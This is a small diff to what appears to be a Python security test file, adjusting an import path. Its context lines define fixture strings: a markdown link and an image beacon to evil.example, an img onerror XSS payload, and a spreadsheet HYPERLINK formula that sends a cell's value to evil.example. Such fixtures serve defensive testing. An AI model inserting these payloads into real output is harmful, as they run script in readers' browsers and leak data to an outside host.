@@ -13,7 +13,8 @@ from pathlib import Path
 
 import duckdb
 import pytest
-from results_parts import lbx, results_file
+
+from tests.attacks.results_parts import lbx, results_file
 
 LINK = "[click](https://evil.example/x) ![](http://evil.example/beacon.png) <img src=x onerror=alert(1)> `a` |b"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
